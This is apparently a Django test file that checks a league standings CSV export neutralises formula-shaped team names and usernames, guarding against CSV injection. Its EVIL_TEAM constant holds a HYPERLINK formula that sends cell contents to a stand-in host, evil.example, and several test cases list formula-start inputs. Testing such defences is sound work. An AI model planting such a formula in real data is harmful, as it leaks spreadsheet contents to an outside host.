"""CSV injection (OWASP): a team or a player named like a formula reaches the standings CSV as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from arena.engine.campaign.results import ResultKind
from campaigns.services.fixtures import fixtures_generate
from common.csv_export import neutralise
from tests.campaigns.factories import LeagueFactory, enter_team
from tests.campaigns.helpers import facts, play
from tests.factories import UserFactory

ROOT = Path(__file__).resolve().parents[2]
EVIL_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.django_db
@pytest.mark.parametrize(("language", "delimiter", "encoding"), [("en", ",", "utf-8"), ("hu", ";", "utf-8-sig")])
def test_a_team_named_like_a_formula_reaches_the_standings_csv_as_text(client, language, delimiter, encoding):
    league = LeagueFactory()
    enter_team(league, name=EVIL_TEAM, player=UserFactory(username="@admin"))
    enter_team(league, name="+Plus Team", player=UserFactory(username="-dash"))
    fixtures_generate(league=league, actor=league.organiser)
    play(league.fixtures.exclude(status="bye").get(), facts(ResultKind.VICTORY, 2, 10))  # home's difference < 0

    response = client.get(reverse("campaigns:standings-csv", args=[league.pk]), headers={"Accept-Language": language})

    rows = list(csv.reader(io.StringIO(response.content.decode(encoding)), delimiter=delimiter))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL_TEAM in cells and EVIL_TEAM not in cells
    assert "'@admin" in cells and "'+Plus Team" in cells and "'-dash" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    differences = [row[14] for row in rows[1:]]
    assert sorted(differences) == ["-8", "8"]  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals
        ("Iron Wolves", "Iron Wolves"),
        ("a=b", "a=b"),
        ("", ""),
        ("-3", "-3"),  # a plain number is not a formula
        ("-1,5", "-1,5"),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_neutralise_prefixes_every_formula_start(value, written):
    assert neutralise(value) == written


def test_every_csv_export_goes_through_the_formula_safe_writer():
    """A new export that calls csv.writer itself would write names raw; it must use formula_safe_writer."""
    offenders = []
    for package in ("accounts", "arena", "campaigns", "common", "teams", "viadal_site", "bench"):
        for path in sorted((ROOT / package).rglob("*.py")):
            relative = path.relative_to(ROOT).as_posix()
            if relative == "common/csv_export.py":
                continue
            if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == []
